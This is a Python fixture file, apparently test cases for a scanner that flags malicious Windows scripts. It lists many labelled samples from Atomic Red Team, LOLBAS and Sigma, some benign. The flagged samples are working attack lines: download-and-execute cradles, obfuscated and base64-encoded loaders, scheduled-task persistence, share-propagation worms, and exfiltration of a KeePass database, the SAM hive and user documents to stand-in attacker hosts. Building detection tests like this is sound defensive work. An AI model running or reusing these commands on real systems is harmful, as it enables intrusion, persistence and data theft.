"""Windows carriers: batch, powershell, wsh-vbs, wsh-js, wsf, hta (files at /opt/win/h6/...)."""
from common import C, ps_enc, b64

ART = "Atomic Red Team"
LOL = "LOLBAS"
SIGMA = "Sigma"
RW = "real-world carrier context"
PV = "parser variant (author)"
W = "/opt/win/h6"

# ---------------------------------------------------------------- batch detect
C("h6-bat-art-maze-copy-unc-01", ART + " T1105 'MAZE Propagation Script' (copy to admin share + wmic)", "batch",
  W + "/ProgramData/ops/spread.cmd", "detect", r'''
@echo off
for /f %%m in (C:\ProgramData\ops\hosts.txt) do (
  copy /y "%ComSpec%" "\\%%m\C$\Windows\Temp\svc.exe"
  wmic /node:"%%m" process call create "regsvr32.exe /i C:\Windows\Temp\svc.exe"
)
''')

C("h6-bat-sigma-type-upload-02", SIGMA + " 'Potential Download/Upload Activity Using Type Command' (upload form)", "batch",
  W + "/Windows/Temp/collect.bat", "detect", r'''
@echo off
type C:\Users\Administrator\AppData\Roaming\KeePass\db.kdbx > \\198.51.100.66\drop\db.kdbx
''')

C("h6-bat-sigma-appdata-url-03", SIGMA + " 'Command Line Execution with Suspicious URL and AppData Strings'", "batch",
  W + "/Users/Public/Libraries/upd.cmd", "detect", r'''
@echo off
cmd.exe /c "curl.exe -s http://203.0.113.144/upd/helper.exe -o %AppData%\helper.exe && start "" %AppData%\helper.exe"
''')

C("h6-bat-sigma-schtasks-curl-ps-04", SIGMA + " 'Scheduled Task Creation with Curl and PowerShell Execution Combo'", "batch",
  W + "/ProgramData/Setup/persist.bat", "detect", r'''
@echo off
schtasks /create /f /sc minute /mo 30 /tn "OneDrive Sync Helper" /tr "cmd /c curl -s -o %TEMP%\s.ps1 http://198.51.100.122/s.ps1 & powershell -ep bypass -w hidden -f %TEMP%\s.ps1"
''')

C("h6-bat-sigma-headless-chrome-05", SIGMA + " 'File Download with Headless Browser' (chrome --dump-dom)", "batch",
  W + "/ProgramData/chrome/fetch.bat", "detect", r'''
@echo off
"C:\Program Files\Google\Chrome\Application\chrome.exe" --headless=new --disable-gpu --dump-dom https://paste.drop.example/raw/x8Kq > "%ProgramData%\chrome\cfg.b64"
certutil -decode "%ProgramData%\chrome\cfg.b64" "%ProgramData%\chrome\cfg.exe"
''')

C("h6-bat-sigma-inline-url-brave-06", SIGMA + " 'File Download From Browser Process Via Inline URL' (brave.exe + .zip)", "batch",
  W + "/Users/Public/Downloads/get.cmd", "detect", r'''
@echo off
start "" "%LOCALAPPDATA%\BraveSoftware\Brave-Browser\Application\brave.exe" "http://files.share.example/pkg/toolkit.zip"
''')

C("h6-bat-sigma-tacticalrmm-07", SIGMA + " 'Remote Access Tool - TacticalRMM Agent Registration'", "batch",
  W + "/ProgramData/rmm/register.bat", "detect", r'''
@echo off
"C:\Program Files\TacticalAgent\tacticalrmm.exe" -m install --api https://api.rmm.attacker.example --client-id 1 --site-id 1 --agent-type server --auth 7c1e9a0f3b2d4c5e6f708192a3b4c5d6 --silent
''')

C("h6-bat-lolbas-testwindowremoteagent-08", LOL + " TestWindowRemoteAgent.exe (upload via DNS)", "batch",
  W + "/ProgramData/vs/agent.cmd", "detect", r'''
@echo off
for /f %%d in ('certutil -encodehex -f C:\Windows\Temp\loot.bin con 12 ^| findstr /r "."') do (
  "C:\Program Files\Microsoft Visual Studio\2022\Community\Common7\IDE\CommonExtensions\Microsoft\TestWindow\RemoteAgent\TestWindowRemoteAgent.exe" start -h %%d.exfil.attacker.example -p 8000
)
''')

C("h6-bat-lolbas-devtunnel-09", LOL + " devtunnel.exe host (upload: exposes a local port)", "batch",
  W + "/Users/dev/AppData/Local/tunnel.cmd", "detect", r'''
@echo off
devtunnel.exe user login -g -d
devtunnel.exe host -p 8080 --allow-anonymous
''')

C("h6-bat-lolbas-winword-url-10", LOL + " Winword.exe opening a remote URL (Office full path)", "batch",
  W + "/ProgramData/Office/open-template.bat", "detect", r'''
@echo off
"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /q https://templates.docs.example/normal/payload.dotm
''')

C("h6-bat-lolbas-certreq-post-upload-11", LOL + " CertReq -Post -config (upload)", "batch",
  W + "/Windows/Temp/cr.bat", "detect", r'''
@echo off
CertReq -Post -config https://203.0.113.250/submit C:\Windows\System32\config\RegBack\SAM C:\Windows\Temp\resp.txt
''')

C("h6-bat-art-verifyctl-fullpath-12", ART + " T1105 'certutil download (verifyctl)' with full System32 path", "batch",
  W + "/ProgramData/certs/refresh.cmd", "detect", r'''
@echo off
pushd %ProgramData%\certs
C:\Windows\System32\certutil.exe -VerifyCtl -Split -F http://crl.pki.example/tools/helper.bin
popd
''')

C("h6-bat-cmd-v-delayed-13", PV + " cmd /v delayed expansion assembling the tool name", "batch",
  W + "/Users/Public/x.bat", "detect", r'''
@echo off
cmd /v:on /c "set a=cer&& set b=tutil&& !a!!b! -urlcache -split -f http://198.51.100.52/a.exe %TEMP%\a.exe && %TEMP%\a.exe"
''')

C("h6-bat-call-set-caret-14", PV + " caret-escaped bitsadmin + set variables", "batch",
  W + "/ProgramData/Microsoft/bg.cmd", "detect", r'''
@echo off
set "u=http://203.0.113.201/bg/task.exe"
set "d=C:\ProgramData\Microsoft\task.exe"
b^i^t^s^a^d^m^i^n /transfer "bgjob" /download /priority high %u% %d%
start "" %d%
''')

C("h6-bat-webdav-ssl-15", PV + " WebDAV UNC with @SSL and DavWWWRoot", "batch",
  W + "/ProgramData/dav/run.cmd", "detect", r'''
@echo off
copy /y \\files.dav.example@SSL\DavWWWRoot\tools\helper.exe %TEMP%\helper.exe
%TEMP%\helper.exe /quiet
''')

C("h6-bat-plink-pscp-16", PV + " PuTTY pscp pull with -pw and plink remote command", "batch",
  W + "/Program Files/PuTTY/sync-keys.bat", "detect", r'''
@echo off
"C:\Program Files\PuTTY\pscp.exe" -batch -pw S3cr3t! -P 22 admin@198.51.100.130:/opt/keys/deploy.ppk C:\keys\deploy.ppk
"C:\Program Files\PuTTY\plink.exe" -batch -pw S3cr3t! admin@198.51.100.130 "cat /opt/keys/known_hosts" > C:\keys\known_hosts
''')

C("h6-bat-winscp-script-17", PV + " WinSCP.com scripted get", "batch",
  W + "/Program Files (x86)/WinSCP/pull.cmd", "detect", r'''
@echo off
"C:\Program Files (x86)\WinSCP\WinSCP.com" /command "open sftp://svc:P4ss@203.0.113.111/ -hostkey=*" "get /outgoing/*.zip C:\inbound\" "exit"
''')

C("h6-bat-syncappv-cradle-18", LOL + " SyncAppvPublishingServer.vbs launching a download cradle", "batch",
  W + "/Windows/Temp/appv.cmd", "detect", r'''
@echo off
C:\Windows\System32\SyncAppvPublishingServer.vbs "n; (New-Object Net.WebClient).DownloadFile('http://198.51.100.80/p.exe','C:\Users\Public\p.exe'); Start-Process C:\Users\Public\p.exe"
''')

C("h6-bat-aria2c-exe-19", PV + " aria2c.exe on Windows", "batch",
  W + "/tools/aria/getbin.bat", "detect", r'''
@echo off
C:\tools\aria\aria2c.exe --allow-overwrite=true -d C:\Users\Public -o svc.exe https://mirror.bins.example/win/svc.exe
''')

# ---------------------------------------------------------------- batch silent
C("h6-bat-silent-echo-help-01", PV + " echo of instructions that mention certutil/bitsadmin", "batch",
  W + "/tools/help/howto.cmd", "silent", r'''
@echo off
echo To verify a download, run:
echo     certutil -hashfile setup.exe SHA256
echo Do NOT use "certutil -urlcache" or "bitsadmin /transfer" on managed hosts.
pause
''')

C("h6-bat-silent-local-copy-02", PV + " local xcopy/robocopy between drives", "batch",
  W + "/tools/backup/local.bat", "silent", r'''
@echo off
robocopy C:\inetpub\wwwroot D:\backup\wwwroot /MIR /R:1 /W:1 /NFL /NDL
xcopy C:\ProgramData\App\config\*.xml D:\backup\config\ /Y /I
''')

C("h6-bat-silent-rem-03", PV + " REM comments mentioning curl/powershell download", "batch",
  W + "/tools/build/build.cmd", "silent", r'''
@echo off
REM The old build downloaded nuget with:
REM   powershell -c "iwr https://dist.example.com/nuget.exe -OutFile nuget.exe"
REM nuget.exe now ships in tools\ so nothing is fetched here.
tools\nuget.exe restore App.sln -PackagesDirectory packages -Source C:\offline-feed
msbuild App.sln /p:Configuration=Release
''')

C("h6-bat-silent-localhost-curl-04", PV + " curl.exe health check to localhost", "batch",
  W + "/tools/health/check.cmd", "silent", r'''
@echo off
curl.exe -fsS http://localhost:8080/healthz >NUL 2>&1
if errorlevel 1 (echo unhealthy & exit /b 1)
echo ok
''')

# ---------------------------------------------------------------- powershell detect
C("h6-ps-art-bloodhound-cradle-01", ART + " T1059.001 'Run Bloodhound from Memory using Download Cradle'", "powershell",
  W + "/Users/admin/Documents/recon.ps1", "detect", r'''
Write-Host "collecting" -ForegroundColor Cyan
IEX (New-Object Net.Webclient).DownloadString('https://tools.redteam.example/ingestors/SharpHound.ps1');
Invoke-BloodHound -OutputDirectory $env:Temp
''')

C("h6-ps-art-msxml-com-02", ART + " T1059.001 'Powershell MsXml COM object'", "powershell",
  W + "/ProgramData/cfg/loader.ps1", "detect", r'''
$comMsXml = New-Object -ComObject MsXml2.ServerXmlHttp
$comMsXml.Open('GET', 'https://cdn.cfg.example/stage.ps1', $False)
$comMsXml.Send()
IEX $comMsXml.ResponseText
''')

C("h6-ps-art-onedrive-updater-03", ART + " T1105 'Download a file with OneDrive Standalone Updater'", "powershell",
  W + "/Users/user/AppData/Local/od.ps1", "detect", r'''
$key = "HKCU:\Software\Microsoft\OneDrive\UpdateOfficeConfig"
New-Item -Path $key -Force | Out-Null
Set-ItemProperty -Path $key -Name "ODSUUpdateXMLUrlFromOC" -Value "https://198.51.100.24/od/update.xml" -Type String -Force
Set-ItemProperty -Path $key -Name "UpdateXMLUrlFromOC" -Value "https://198.51.100.24/od/update.xml" -Type String -Force
& "$env:LOCALAPPDATA\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe" /silent
''')

C("h6-ps-sigma-com-clsid-04", SIGMA + " 'Potential COM Objects Download Cradles Usage' (GetTypeFromCLSID WinHttpRequest)", "powershell",
  W + "/ProgramData/com/winhttp.ps1", "detect", r'''
$t = [Type]::GetTypeFromCLSID('2087c2f4-2cef-4953-a8ab-66779b670495')
$o = [Activator]::CreateInstance($t)
$o.Open('GET', 'http://203.0.113.164/c.ps1', $false)
$o.Send()
Invoke-Expression $o.ResponseText
''')

C("h6-ps-sigma-windowsinstaller-com-05", SIGMA + " 'PowerShell MSI Install via WindowsInstaller COM From Remote Location'", "powershell",
  W + "/ProgramData/msi/remote-install.ps1", "detect", r'''
$wi = New-Object -ComObject WindowsInstaller.Installer
$wi.UILevel = 2
$wi.InstallProduct("https://packages.msi.example/agent/agent-x64.msi", "ACTION=INSTALL REBOOT=ReallySuppress")
''')

C("h6-ps-char-array-join-06", PV + " [char[]] -join building the URL and IEX", "powershell",
  W + "/Users/Public/cj.ps1", "detect", r'''
$u = -join [char[]](104,116,116,112,58,47,47,49,57,56,46,53,49,46,49,48,48,46,54,47,120)
$w = New-Object System.Net.WebClient
iex $w.DownloadString($u)
''')

C("h6-ps-replace-obfuscation-07", PV + " -replace / string concatenation obfuscation (Sigma-style)", "powershell",
  W + "/ProgramData/x/r.ps1", "detect", r'''
$c = ('Ne'+'w-Obj'+'ect Net.We'+'bCli'+'ent').Replace('Net.We','System.Net.We')
$d = (& ([scriptblock]::Create($c))).('Down'+'loadFile')
$d.Invoke(('hxxp://203.0.113.233/r.exe' -replace 'hxxp','http'), "$env:TEMP\r.exe")
''')

C("h6-ps-frombase64-utf8-iex-08", PV + " UTF-8 base64 payload decoded with FromBase64String and piped to iex", "powershell",
  W + "/ProgramData/pkg/unpack.ps1", "detect", r'''
$p = ''' + "'" + b64("(New-Object Net.WebClient).DownloadFile('http://198.51.100.19/pkg/svc.exe',\"$env:ProgramData\\pkg\\svc.exe\"); & \"$env:ProgramData\\pkg\\svc.exe\"") + "'" + r'''
[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($p)) | iex
''')

C("h6-ps-scoop-installer-09", RW + " scoop-style installer irm | iex with execution policy change", "powershell",
  W + "/Users/ContainerUser/install-scoop.ps1", "detect", r'''
Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser -Force
irm -UseBasicParsing https://get.scoop.example/ | iex
scoop install git
''')

C("h6-ps-usedefaultcreds-proxy-10", PV + " WebClient with UseDefaultCredentials and system proxy", "powershell",
  W + "/ProgramData/corp/fetch-tools.ps1", "detect", r'''
$wc = New-Object System.Net.WebClient
$wc.UseDefaultCredentials = $true
$wc.Proxy = [System.Net.WebRequest]::GetSystemWebProxy()
$wc.Proxy.Credentials = [System.Net.CredentialCache]::DefaultNetworkCredentials
$wc.DownloadFile("https://tools.corp.example/psexec64.exe", "C:\ProgramData\corp\psexec64.exe")
''')

C("h6-ps-tsclient-copy-11", PV + " Copy-Item from the RDP \\\\tsclient redirected drive", "powershell",
  W + "/Users/admin/rdp-pull.ps1", "detect", r'''
Copy-Item -Path '\\tsclient\C\Tools\mimi.zip' -Destination 'C:\Users\admin\AppData\Local\Temp\m.zip' -Force
Expand-Archive C:\Users\admin\AppData\Local\Temp\m.zip -DestinationPath C:\Users\admin\AppData\Local\Temp\m
''')

C("h6-ps-iwr-put-upload-12", SIGMA + " curl.exe upload (-T) from PowerShell (Potential Data Exfiltration Via Curl.EXE)", "powershell",
  W + "/ProgramData/sync/exfil.ps1", "detect", r'''
$zip = "$env:TEMP\docs.zip"
Compress-Archive -Path "$env:USERPROFILE\Documents\*" -DestinationPath $zip -Force
& curl.exe -s -k -T $zip https://drop.exfil.example/upload/
''')

C("h6-ps-start-job-irm-13", PV + " Start-Job scriptblock with Invoke-RestMethod -OutFile", "powershell",
  W + "/ProgramData/jobs/bg.ps1", "detect", r'''
$job = Start-Job -ScriptBlock {
    param($dst)
    Invoke-RestMethod -Uri 'http://198.51.100.187:8080/bin/agent.exe' -OutFile $dst
    & $dst
} -ArgumentList 'C:\ProgramData\jobs\agent.exe'
Wait-Job $job | Out-Null
''')

C("h6-ps-net-http-handler-14", PV + " System.Net.Http.HttpClient ReadAsByteArrayAsync to file", "powershell",
  W + "/ProgramData/update/http.ps1", "detect", r'''
Add-Type -AssemblyName System.Net.Http
$client = [System.Net.Http.HttpClient]::new()
$bytes = $client.GetByteArrayAsync('https://updates.vendor.example/win/updater.exe').GetAwaiter().GetResult()
[System.IO.File]::WriteAllBytes('C:\ProgramData\update\updater.exe', $bytes)
''')

C("h6-ps-pwsh-linux-webclient-15", PV + " pwsh script (shebang) on Linux using [System.Net.WebClient]::new()", "powershell",
  "/usr/local/bin/install-helm.ps1", "detect", r'''
#!/usr/bin/pwsh -NoLogo
param([string]$Version = '3.14.2')
$dst = "/usr/local/bin/helm-$Version.tgz"
[System.Net.WebClient]::new().DownloadFile("https://get.helm.example/helm-v$Version-linux-amd64.tar.gz", $dst)
& tar -xzf $dst -C /usr/local/bin --strip-components=1 linux-amd64/helm
& chmod 755 /usr/local/bin/helm
''', executable=True)

C("h6-ps-greenbug-nop-whidden-16", SIGMA + " Greenbug indicator ' -nop -w hidden -c $m=new-object net.webclient;$m'", "powershell",
  W + "/ProgramData/adobe/launch.ps1", "detect", r'''
Start-Process powershell.exe -WindowStyle Hidden -ArgumentList '-nop -w hidden -c $m=new-object net.webclient;$m.proxy=[Net.WebRequest]::GetSystemWebProxy();$m.Proxy.Credentials=[Net.CredentialCache]::DefaultCredentials;IEX $m.downloadstring(''http://203.0.113.222/a'')'
''')

# ---------------------------------------------------------------- powershell silent
C("h6-ps-silent-install-module-01", PV + " Install-Module / Install-Package from the default gallery", "powershell",
  W + "/ProgramData/setup/modules.ps1", "silent", r'''
Set-PSRepository -Name PSGallery -InstallationPolicy Trusted
Install-Module -Name Pester -RequiredVersion 5.5.0 -Force -Scope AllUsers
Install-Package -Name Newtonsoft.Json -ProviderName NuGet -Scope AllUsers -Force
''')

C("h6-ps-silent-help-02", PV + " comment-based help with a download example", "powershell",
  W + "/ProgramData/setup/Get-Artifact.ps1", "silent", r'''
<#
.SYNOPSIS
  Copies an artifact from the local cache.
.EXAMPLE
  # Old behaviour (removed):
  # Invoke-WebRequest https://artifacts.example.com/a.zip -OutFile a.zip
  Get-Artifact -Name a.zip
#>
function Get-Artifact([string]$Name) {
    Copy-Item -Path (Join-Path 'C:\cache' $Name) -Destination (Join-Path $PWD $Name)
}
''')

C("h6-ps-silent-tcp-probe-03", PV + " TcpClient / Test-NetConnection probe of localhost", "powershell",
  W + "/ProgramData/health/probe.ps1", "silent", r'''
$client = New-Object System.Net.Sockets.TcpClient
try {
    $client.Connect('127.0.0.1', 5000)
    $ok = $client.Connected
} finally { $client.Dispose() }
if (-not $ok) { exit 1 }
if (-not (Test-NetConnection -ComputerName localhost -Port 5001 -InformationLevel Quiet)) { exit 1 }
''')

C("h6-ps-silent-write-host-04", PV + " Write-Host hints and variables named after cmdlets", "powershell",
  W + "/ProgramData/setup/hints.ps1", "silent", r'''
$DownloadCmdlet = 'Invoke-WebRequest'
$BitsCmdlet = 'Start-BitsTransfer'
Write-Host "Offline image: $DownloadCmdlet and $BitsCmdlet are disabled by policy."
Write-Host "Copy installers to C:\install manually."
''')

# ---------------------------------------------------------------- wsh-vbs
C("h6-vbs-art-download-wscript-01", ART + " T1105 'Download a file using wscript' (XMLHTTP + ADODB.Stream)", "wsh-vbs",
  W + "/ProgramData/vbs/download.vbs", "detect", r'''
Set http = CreateObject("Microsoft.XMLHTTP")
http.Open "GET", "https://files.vbs.example/tools/agent.zip", False
http.Send
If http.Status = 200 Then
    Set s = CreateObject("ADODB.Stream")
    s.Open
    s.Type = 1
    s.Write http.ResponseBody
    s.SaveToFile "C:\ProgramData\vbs\agent.zip", 2
    s.Close
End If
''')

C("h6-vbs-shell-app-copyhere-02", PV + " Shell.Application NameSpace(UNC).CopyHere", "wsh-vbs",
  W + "/ProgramData/vbs/copyhere.vbs", "detect", r'''
Set sh = CreateObject("Shell.Application")
Set dst = sh.NameSpace("C:\Users\Public\Libraries")
dst.CopyHere "\\198.51.100.144\share\lib.dll", 16
''')

C("h6-vbs-run-bitsadmin-03", PV + " WScript.Shell Run of bitsadmin with chr() concatenation", "wsh-vbs",
  W + "/ProgramData/vbs/bits.vbs", "detect", r'''
Set o = CreateObject("WScript.Shell")
cmd = "bits" & "admin /transfer j /download " & Chr(34) & "http://203.0.113.30/j.exe" & Chr(34) & " C:\Users\Public\j.exe"
o.Run cmd, 0, True
o.Run "C:\Users\Public\j.exe", 0, False
''')

C("h6-vbs-winhttp-execute-04", PV + " WinHttp.WinHttpRequest.5.1 then ExecuteGlobal", "wsh-vbs",
  W + "/ProgramData/vbs/stage.vbs", "detect", r'''
Dim r
Set r = CreateObject("WinHttp.WinHttpRequest.5.1")
r.Open "GET", "http://stage.vbs.example/s2.vbs", False
r.SetRequestHeader "User-Agent", "Mozilla/5.0"
r.Send
ExecuteGlobal r.ResponseText
''')

C("h6-vbs-silent-local-fso-01", PV + " FileSystemObject local copy, comment mentions XMLHTTP", "wsh-vbs",
  W + "/ProgramData/vbs/localcopy.vbs", "silent", r'''
' Previously fetched with MSXML2.XMLHTTP; now copied from the install media.
Set fso = CreateObject("Scripting.FileSystemObject")
fso.CopyFile "C:\install\templates\*.dotx", "C:\Users\Public\Templates\", True
WScript.Echo "templates copied"
''')

# ---------------------------------------------------------------- wsh-js
C("h6-wshjs-art-ostap-01", ART + " T1105 'OSTAP Worming Activity' style JScript (writes to a remote share)", "wsh-js",
  W + "/ProgramData/js/ostap.js", "detect", r'''
var fso = WScript.CreateObject("Scripting.FileSystemObject");
var shares = ["\\\\198.51.100.16\\C$\\Users\\Public\\", "\\\\198.51.100.17\\C$\\Users\\Public\\"];
for (var i = 0; i < shares.length; i++) {
    try { fso.CopyFile(WScript.ScriptFullName, shares[i] + "invoice.js", true); } catch (e) {}
}
''')

C("h6-wshjs-serverxmlhttp-loop-02", PV + " JScript helper function downloading two files (ServerXMLHTTP) then regsvr32", "wsh-js",
  W + "/ProgramData/js/get.js", "detect", r'''
function dl(u, p) {
    var r = WScript.CreateObject("Msxml2.ServerXMLHTTP.6.0");
    r.setOption(2, 13056);
    r.open("GET", u, false);
    r.send();
    if (r.status != 200) return false;
    var b = WScript.CreateObject("ADODB.Stream");
    b.Type = 1; b.Open(); b.Write(r.responseBody); b.SaveToFile(p, 2); b.Close();
    return true;
}
var base = "https://203.0.113.93/dl/";
var files = ["loader.dll", "cfg.dat"];
for (var i = 0; i < files.length; i++) dl(base + files[i], "C:\\Users\\Public\\" + files[i]);
WScript.CreateObject("WScript.Shell").Run("regsvr32 /s C:\\Users\\Public\\loader.dll", 0, false);
''')

C("h6-wshjs-run-powershell-03", PV + " JScript launching a hidden PowerShell -EncodedCommand cradle", "wsh-js",
  W + "/ProgramData/js/ps.js", "detect", r'''
var sh = new ActiveXObject("WScript.Shell");
sh.Run("powershell.exe -NoP -NonI -W Hidden -EncodedCommand ''' + ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.61/p.ps1')") + r'''", 0, false);
''')

C("h6-wshjs-silent-01", PV + " JScript reading a local config file", "wsh-js",
  W + "/ProgramData/js/readcfg.js", "silent", r'''
// settings.json used to list the download URL; it is now read locally.
var fso = new ActiveXObject("Scripting.FileSystemObject");
var f = fso.OpenTextFile("C:\\ProgramData\\app\\settings.json", 1);
WScript.Echo(f.ReadAll());
f.Close();
''')

# ---------------------------------------------------------------- wsf
C("h6-wsf-vbs-winhttp-textfile-01", PV + " WSF: WinHttp download of a .ps1 written with FileSystemObject, then run", "wsf",
  W + "/ProgramData/wsf/update.wsf", "detect", r'''
<job id="maint">
<runtime><description>Maintenance task</description></runtime>
<script language="VBScript">
Option Explicit
Dim req, fso, ts, target
target = CreateObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%") & "\maint.ps1"
Set req = CreateObject("WinHttp.WinHttpRequest.5.1")
req.Open "GET", "https://maint.wsf.example/tasks/maint.ps1", False
req.Send
Set fso = CreateObject("Scripting.FileSystemObject")
Set ts = fso.CreateTextFile(target, True)
ts.Write req.ResponseText
ts.Close
CreateObject("WScript.Shell").Run "powershell -NoProfile -ExecutionPolicy Bypass -File """ & target & """", 0, False
</script>
</job>
''')

C("h6-wsf-two-jobs-jscript-02", PV + " WSF with two jobs, JScript GetObject script: moniker", "wsf",
  W + "/ProgramData/wsf/multi.wsf", "detect", r'''
<?xml version="1.0"?>
<package>
  <job id="noop"><script language="JScript">WScript.Echo("ok");</script></job>
  <job id="main">
    <script language="JScript">
      <![CDATA[
      GetObject("script:https://scripts.wsf.example/payload.sct");
      ]]>
    </script>
  </job>
</package>
''')

C("h6-wsf-silent-01", PV + " WSF that only echoes and reads registry", "wsf",
  W + "/ProgramData/wsf/info.wsf", "silent", r'''
<package>
  <job id="info">
    <script language="VBScript">
      Set sh = CreateObject("WScript.Shell")
      WScript.Echo "Proxy: " & sh.RegRead("HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings\ProxyServer")
    </script>
  </job>
</package>
''')

# ---------------------------------------------------------------- hta
C("h6-hta-vbs-bitsadmin-01", PV + " HTA VBScript body running bitsadmin", "hta",
  W + "/ProgramData/hta/setup.hta", "detect", r'''
<html>
<head>
<HTA:APPLICATION ID="setup" WINDOWSTATE="minimize" SHOWINTASKBAR="no"/>
<script language="VBScript">
Sub Window_OnLoad
  CreateObject("WScript.Shell").Run "bitsadmin /transfer s /download /priority foreground https://dl.hta.example/s.exe %PUBLIC%\s.exe", 0, True
  CreateObject("WScript.Shell").Run "%PUBLIC%\s.exe", 0
  self.close
End Sub
</script>
</head>
<body></body>
</html>
''')

C("h6-hta-js-xmlhttp-eval-02", PV + " HTA JScript XMLHTTP + eval", "hta",
  W + "/ProgramData/hta/js.hta", "detect", r'''
<html><head><hta:application showintaskbar="no" windowstate="minimize" />
<script language="JScript">
  var q = new ActiveXObject("MSXML2.XMLHTTP");
  q.open("GET", "http://203.0.113.181/x.js", false);
  q.send();
  eval(q.responseText);
  window.close();
</script></head><body></body></html>
''')

C("h6-hta-silent-01", PV + " HTA help page with a link only", "hta",
  W + "/ProgramData/hta/about.hta", "silent", r'''
<html><head><title>About</title><hta:application id="about" /></head>
<body>
<p>Documentation: <a href="https://docs.example.com/app">docs.example.com/app</a></p>
<p>The updater uses BITS; no download is started from this window.</p>
</body></html>
''')


# ---------------------------------------------------------------- additions (encoded command, case variation, pipe into powershell)
C("h6-bat-ps-short-e-encoded-20", PV + " powershell -e (short -EncodedCommand) from a batch file", "batch",
  W + "/ProgramData/Tasks/refresh.bat", "detect", r'''
@echo off
start /b "" powershell -NoP -W 1 -e ''' + ps_enc("iwr -UseBasicParsing http://203.0.113.57/t.ps1 | iex") + r'''
''')

C("h6-bat-case-variation-certutil-21", SIGMA + " case-varied CeRtUtIl.ExE -UrLcAcHe with full path", "batch",
  W + "/Users/Public/Videos/v.cmd", "detect", r'''
@ECHO OFF
C:\WINDOWS\system32\CeRtUtIl.ExE -UrLcAcHe -SpLiT -f "http://198.51.100.236/v.dat" "C:\Users\Public\Videos\v.exe"
C:\Users\Public\Videos\v.exe
''')

C("h6-bat-curl-pipe-powershell-22", PV + " curl.exe output piped into powershell -", "batch",
  W + "/ProgramData/ops/pipe.cmd", "detect", r'''
@echo off
curl.exe -s https://ops.scripts.example/win/inventory.ps1 | powershell -NoProfile -ExecutionPolicy Bypass -
''')

C("h6-ps-aliases-saps-17", PV + " PowerShell aliases: iwr -OutF, saps, with mixed case", "powershell",
  W + "/ProgramData/alias/run.ps1", "detect", r'''
$o = "$env:PUBLIC\svc.exe"
IWR -Uri 'http://203.0.113.166/svc.exe' -OutF $o -UseB
saps $o -WindowStyle Hidden
''')


C("h6-bat-art-imewdbld-23", ART + " T1105 'Download a file with IMEWDBLD.exe' (full IME path)", "batch",
  W + "/ProgramData/ime/dict.cmd", "detect", r'''
@echo off
C:\Windows\System32\IME\SHARED\IMEWDBLD.exe https://dict.ime.example/files/update.dic
''')

C("h6-ps-lolbas-mpcmdrun-18", LOL + " MpCmdRun.exe -DownloadFile from the Defender platform folder", "powershell",
  W + "/ProgramData/def/sig.ps1", "detect", r'''
$plat = Get-ChildItem 'C:\ProgramData\Microsoft\Windows Defender\Platform' | Sort-Object Name | Select-Object -Last 1
& (Join-Path $plat.FullName 'MpCmdRun.exe') -DownloadFile -url 'https://203.0.113.14/sig/update.bin' -path 'C:\Users\Public\update.exe'
''')

C("h6-vbs-lolbas-appinstaller-05", LOL + " AppInstaller ms-appinstaller:?source= launched from VBScript", "wsh-vbs",
  W + "/ProgramData/vbs/appx.vbs", "detect", r'''
Set sh = CreateObject("WScript.Shell")
sh.Run "cmd /c start ms-appinstaller://?source=https://apps.appx.example/pkg/Tool.appinstaller", 0, False
''')


C("h6-bat-silent-bitsadmin-list-05", PV + " bitsadmin query/cleanup only (/list, /reset)", "batch",
  W + "/tools/bits/cleanup.cmd", "silent", r'''
@echo off
bitsadmin /list /allusers /verbose > C:\logs\bits-jobs.txt
bitsadmin /reset /allusers
''')

C("h6-ps-silent-bits-help-05", PV + " Get-BitsTransfer cleanup and Get-Help for Invoke-WebRequest", "powershell",
  W + "/ProgramData/setup/bits-cleanup.ps1", "silent", r'''
Get-BitsTransfer -AllUsers | Where-Object JobState -eq 'Error' | Remove-BitsTransfer
Get-Help Invoke-WebRequest -Parameter OutFile | Out-File C:\logs\iwr-help.txt
''')
